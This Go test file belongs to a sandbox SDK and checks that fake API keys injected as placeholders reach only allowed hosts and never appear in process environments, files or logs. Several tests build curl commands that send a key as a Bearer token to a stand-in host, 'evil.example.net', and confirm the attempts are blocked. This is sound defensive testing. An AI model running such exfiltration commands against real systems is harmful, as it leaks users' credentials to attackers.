//go:build airlock_lab

// Tests against the upstream lab of tests/e2e/sdk_lab.py (run by tests/e2e/test_sdk_go.py with
// `go test -tags airlock_lab`): the seeds' examples with fake values, what the upstream really
// received, and where the values are not (no process's argv or environment, no file).
package airlock_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	m "github.com/airlock/airlock/sdk/go"
)

// fakeValue is a fresh, obviously fake secret value.
func fakeValue(name string) string {
	b := make([]byte, 8)
	rand.Read(b)
	return "sk-airlock-go-FAKE-" + name + "-" + hex.EncodeToString(b)
}

// The examples read their values from the environment as the seeds do; TestMain puts fake
// ones there. os.Setenv changes this process's copy only: /proc/self/environ (what another
// process can read) still shows the environment this test binary was started with.
var values = map[string]string{}

func TestMain(mm *testing.M) {
	for _, k := range []string{"SERVICE_API_KEY", "STRIPE_KEY", "OPENAI_API_KEY"} {
		values[k] = fakeValue(k)
		os.Setenv(k, values[k])
	}
	os.Exit(mm.Run())
}

// lab is the options that point a sandbox at the lab's DNS, upstream and CA.
func lab(action m.ViolationAction) m.SandboxOption {
	return m.WithNetwork(m.NetworkConfig{
		OnSecretViolation: action,
		Egress:            strings.Split(os.Getenv("AIRLOCK_LAB_EGRESS"), ","),
		DNSServers:        []string{os.Getenv("AIRLOCK_LAB_DNS")},
		UpstreamCAFiles:   []string{os.Getenv("AIRLOCK_LAB_CA")},
	})
}

type received struct {
	SNI, Host, URI, Authorization string
}

// upstream is what nginx received for requests whose URI holds marker.
func upstream(marker string) []received {
	f, err := os.Open(os.Getenv("AIRLOCK_LAB_ACCESS_LOG"))
	if err != nil {
		return nil
	}
	defer f.Close()
	var out []received
	s := bufio.NewScanner(f)
	for s.Scan() {
		var r received
		if json.Unmarshal(s.Bytes(), &r) == nil && strings.Contains(r.URI, marker) {
			out = append(out, r)
		}
	}
	return out
}

// bearer says whether the upstream got exactly "Bearer <value of env>" for marker, without
// printing the value.
func bearer(marker, env string) string {
	got := upstream(marker)
	if len(got) != 1 {
		return fmt.Sprintf("%d requests", len(got))
	}
	if got[0].Authorization == "Bearer "+values[env] {
		return "the real value"
	}
	if strings.Contains(got[0].Authorization, values[env]) {
		return "the value, mangled"
	}
	return "not the value"
}

func curl(host, marker, env string) string {
	return fmt.Sprintf(`curl -sS -m 20 -o /dev/null -w '%%{http_code}\n' -H "Authorization: Bearer $%s" https://%s/%s`, env, host, marker)
}

func mustRun(sb *m.Sandbox, script string) *m.Result {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	r, err := sb.Shell(ctx, script)
	if err != nil {
		panic(err)
	}
	return r
}

// The seeds' typical flow.
func ExampleCreateSandbox() {
	ctx := context.Background()
	sb, err := m.CreateSandbox(ctx, "worker",
		lab(""),
		m.WithSecrets(m.Secret.Env(
			"SERVICE_API_KEY",
			os.Getenv("SERVICE_API_KEY"),
			m.SecretEnvOptions{
				AllowHosts: []string{"api.example.com"},
			},
		)),
	)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer sb.Stop()
	r := mustRun(sb, `echo "$SERVICE_API_KEY"; `+curl("api.example.com", "typical-flow", "SERVICE_API_KEY"))
	fmt.Print(string(r.Stdout))
	fmt.Println("api.example.com received:", bearer("typical-flow", "SERVICE_API_KEY"))
	// Output:
	// $MSB_SERVICE_API_KEY
	// 200
	// api.example.com received: the real value
}

// The seeds' WithSecrets example: two secrets, each reaching only its own hosts.
func ExampleWithSecrets() {
	ctx := context.Background()
	sb, err := m.CreateSandbox(ctx, "worker",
		lab(""),
		m.WithSecrets(
			m.Secret.Env("STRIPE_KEY", os.Getenv("STRIPE_KEY"),
				m.SecretEnvOptions{AllowHosts: []string{"api.stripe.com"}}),
			m.Secret.Env("OPENAI_API_KEY", os.Getenv("OPENAI_API_KEY"),
				m.SecretEnvOptions{AllowHostPatterns: []string{"*.openai.com"}}),
		),
	)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer sb.Stop()
	r := mustRun(sb, curl("api.stripe.com", "ws-stripe", "STRIPE_KEY")+"; "+
		curl("api.openai.com", "ws-openai", "OPENAI_API_KEY")+"; "+
		curl("api.openai.com", "ws-stripe-at-openai", "STRIPE_KEY")+` 2>/dev/null || echo "blocked"`)
	fmt.Print(string(r.Stdout))
	fmt.Println("api.stripe.com received:", bearer("ws-stripe", "STRIPE_KEY"))
	fmt.Println("api.openai.com received:", bearer("ws-openai", "OPENAI_API_KEY"))
	fmt.Println("STRIPE_KEY at api.openai.com:", len(upstream("ws-stripe-at-openai")), "requests")
	fmt.Println("violations:", len(sb.Violations()), sb.Violations()[0]["secret"])
	// Output:
	// 200
	// 200
	// 000
	// blocked
	// api.stripe.com received: the real value
	// api.openai.com received: the real value
	// STRIPE_KEY at api.openai.com: 0 requests
	// violations: 1 STRIPE_KEY
}

// The seeds' Secret.Env example, with a custom placeholder.
func ExampleSecret_Env() {
	ctx := context.Background()
	secret := m.Secret.Env("STRIPE_KEY", os.Getenv("STRIPE_KEY"),
		m.SecretEnvOptions{
			AllowHosts:        []string{"api.stripe.com"},
			AllowHostPatterns: []string{"*.stripe.com"},
			Placeholder:       "$MSB_STRIPE",
		},
	)
	sb, err := m.CreateSandbox(ctx, "worker", lab(""), m.WithSecrets(secret))
	if err != nil {
		fmt.Println(err)
		return
	}
	defer sb.Stop()
	r := mustRun(sb, `echo "$STRIPE_KEY"; `+curl("api.stripe.com", "env-placeholder", "STRIPE_KEY"))
	fmt.Print(string(r.Stdout))
	fmt.Println("api.stripe.com received:", bearer("env-placeholder", "STRIPE_KEY"))
	// Output:
	// $MSB_STRIPE
	// 200
	// api.stripe.com received: the real value
}

// scanProc fails if any process's argv or environment holds one of the values.
func scanProc(t *testing.T) {
	t.Helper()
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	checked := 0
	for _, d := range dirs {
		for _, f := range []string{"cmdline", "environ"} {
			data, err := os.ReadFile(filepath.Join(d, f))
			if err != nil {
				continue // gone, or a kernel thread
			}
			checked++
			for k, v := range values {
				if bytes.Contains(data, []byte(v)) {
					exe, _ := os.Readlink(filepath.Join(d, "exe"))
					t.Errorf("%s/%s (%s) holds the value of %s", d, f, exe, k)
				}
			}
		}
	}
	if checked < 10 {
		t.Fatalf("only %d /proc files read", checked)
	}
}

// scanFiles fails if a file under root (other than the upstream's own log, which is meant to
// hold what it received) holds one of the values.
func scanFiles(t *testing.T, root string) {
	t.Helper()
	skip := os.Getenv("AIRLOCK_LAB_ACCESS_LOG")
	filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || path == skip || !d.Type().IsRegular() {
			return nil
		}
		if info, err := d.Info(); err != nil || info.Size() > 4<<20 {
			return nil
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return nil
		}
		for k, v := range values {
			if bytes.Contains(data, []byte(v)) {
				t.Errorf("%s holds the value of %s", path, k)
			}
		}
		return nil
	})
}

func TestTheValueIsInNoProcessAndNoFile(t *testing.T) {
	var log bytes.Buffer
	audit := filepath.Join(t.TempDir(), "audit.jsonl")
	sb, err := m.CreateSandbox(context.Background(), "worker", lab(""), m.WithLogOutput(&log), m.WithAuditLog(audit),
		m.WithSecrets(m.Secret.Env("SERVICE_API_KEY", os.Getenv("SERVICE_API_KEY"),
			m.SecretEnvOptions{AllowHosts: []string{"api.example.com"}})))
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Stop()
	// While a request is substituted and while the sandbox runs: airlock serve, its sandbox's
	// processes, this test: none shows the value in argv or environ.
	r := mustRun(sb, curl("api.example.com", "proc-check", "SERVICE_API_KEY")+"; "+
		curl("evil.example.net", "proc-check-evil", "SERVICE_API_KEY")+"; sleep 30 & cat /proc/self/environ | tr '\\0' '\\n' | grep SERVICE")
	if got := bearer("proc-check", "SERVICE_API_KEY"); got != "the real value" {
		t.Fatalf("the allowed host got %s", got)
	}
	if n := len(upstream("proc-check-evil")); n != 0 {
		t.Fatalf("the evil host got %d requests", n)
	}
	if !strings.Contains(string(r.Stdout), "SERVICE_API_KEY=$MSB_SERVICE_API_KEY") {
		t.Fatalf("the sandbox's environ: %q", r.Stdout)
	}
	scanProc(t)
	for _, root := range []string{os.Getenv("AIRLOCK_HOME"), "/run/airlock", filepath.Dir(audit), os.Getenv("AIRLOCK_LAB_DIR"), "/tmp"} {
		scanFiles(t, root)
	}
	for k, v := range values {
		if strings.Contains(log.String(), v) || strings.Contains(string(r.Stdout)+string(r.Stderr), v) {
			t.Errorf("airlock's log or the command's output holds the value of %s", k)
		}
	}
	data, _ := os.ReadFile(audit)
	if !bytes.Contains(data, []byte(`"violation"`)) || !bytes.Contains(data, []byte(`"substitution"`)) {
		t.Errorf("the audit log lacks the substitution or the violation: %s", data)
	}
}

// The seeds' pattern os.Getenv(KEY) with KEY exported before the program started: airlock is
// started without that variable, or /proc/<airlock>/environ would show the value.
func TestExportedValueChild(t *testing.T) {
	// Re-run this test binary with the value really exported (in its initial environment), then
	// look at every process while its sandbox runs.
	if os.Getenv("AIRLOCK_GO_REEXEC") != "" {
		sb, err := m.CreateSandbox(context.Background(), "worker", lab(""), m.WithLogOutput(&bytes.Buffer{}),
			m.WithSecrets(m.Secret.Env("EXPORTED_KEY", os.Getenv("EXPORTED_KEY"), m.SecretEnvOptions{AllowHosts: []string{"api.example.com"}})))
		if err != nil {
			t.Fatal(err)
		}
		defer sb.Stop()
		mustRun(sb, "true")
		fmt.Println("airlock-pid-check: started")
		// The parent scans /proc now; it tells us when through stdin.
		bufio.NewReader(os.Stdin).ReadString('\n')
		return
	}
	value := fakeValue("EXPORTED")
	values["EXPORTED_KEY"] = value
	defer delete(values, "EXPORTED_KEY")
	cmd := execSelf(t, "TestExportedValueChild", "AIRLOCK_GO_REEXEC=1", "EXPORTED_KEY="+value)
	stdin, _ := cmd.StdinPipe()
	stdout, _ := cmd.StdoutPipe()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(stdout)
	started := false
	for sc.Scan() {
		if strings.Contains(sc.Text(), "airlock-pid-check: started") {
			started = true
			break
		}
	}
	if !started {
		cmd.Wait()
		t.Fatal("the child did not start its sandbox")
	}
	// The child itself was started with the value in its environment (as a user's program
	// would be); every other process must not hold it.
	child := fmt.Sprintf("/proc/%d/", cmd.Process.Pid)
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range dirs {
		if d+"/" == child {
			continue
		}
		for _, f := range []string{"cmdline", "environ"} {
			data, err := os.ReadFile(filepath.Join(d, f))
			if err == nil && bytes.Contains(data, []byte(value)) {
				exe, _ := os.Readlink(filepath.Join(d, "exe"))
				t.Errorf("%s/%s (%s) holds the exported value", d, f, exe)
			}
		}
	}
	stdin.Write([]byte("done\n"))
	for sc.Scan() {
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("the child failed: %v", err)
	}
}

// The last non-empty OnViolation wins, network-wide: it decides for every secret's violations.
func TestViolationActionIsAppliedNetworkWide(t *testing.T) {
	hosts := m.SecretEnvOptions{AllowHosts: []string{"api.stripe.com"}}
	terminate, block := hosts, hosts
	terminate.OnViolation = m.ViolationActionBlockAndTerminate
	block.OnViolation = m.ViolationActionBlock
	other := m.SecretEnvOptions{AllowHosts: []string{"api.openai.com"}}

	// Terminate is the last non-empty action: OPENAI_API_KEY's violation ends the sandbox,
	// although that secret set no action of its own.
	sb, err := m.CreateSandbox(context.Background(), "t", lab(m.ViolationActionBlockAndLog), m.WithLogOutput(&bytes.Buffer{}),
		m.WithSecrets(m.Secret.Env("STRIPE_KEY", os.Getenv("STRIPE_KEY"), terminate)),
		m.WithSecrets(m.Secret.Env("OPENAI_API_KEY", os.Getenv("OPENAI_API_KEY"), other)))
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Stop()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	_, runErr := sb.Shell(ctx, curl("evil.example.net", "nw-terminate", "OPENAI_API_KEY")+"; sleep 20")
	select {
	case <-sb.Done():
	case <-time.After(20 * time.Second):
		t.Fatal("block-and-terminate did not stop the sandbox")
	}
	if runErr == nil || !strings.Contains(sb.StopReason(), "OPENAI_API_KEY") {
		t.Fatalf("run error %v, stop reason %q", runErr, sb.StopReason())
	}
	if n := len(upstream("nw-terminate")); n != 0 {
		t.Fatalf("evil got %d requests", n)
	}

	// Block comes last: STRIPE_KEY's own block-and-terminate does not apply.
	sb2, err := m.CreateSandbox(context.Background(), "t", lab(""), m.WithLogOutput(&bytes.Buffer{}),
		m.WithSecrets(m.Secret.Env("STRIPE_KEY", os.Getenv("STRIPE_KEY"), terminate),
			m.Secret.Env("OPENAI_API_KEY", os.Getenv("OPENAI_API_KEY"), func() m.SecretEnvOptions { o := other; o.OnViolation = m.ViolationActionBlock; return o }())))
	if err != nil {
		t.Fatal(err)
	}
	defer sb2.Stop()
	r := mustRun(sb2, curl("evil.example.net", "nw-block", "STRIPE_KEY")+" 2>/dev/null; echo after")
	if !strings.HasSuffix(string(r.Stdout), "after\n") {
		t.Fatalf("%q", r.Stdout)
	}
	if r := mustRun(sb2, "echo still-running"); string(r.Stdout) != "still-running\n" {
		t.Fatalf("the sandbox did not survive a blocked violation: %q", r.Stdout)
	}
	if v := sb2.Violations(); len(v) != 1 || v[0]["action"] != "block" {
		t.Fatalf("violations %v", v)
	}
}
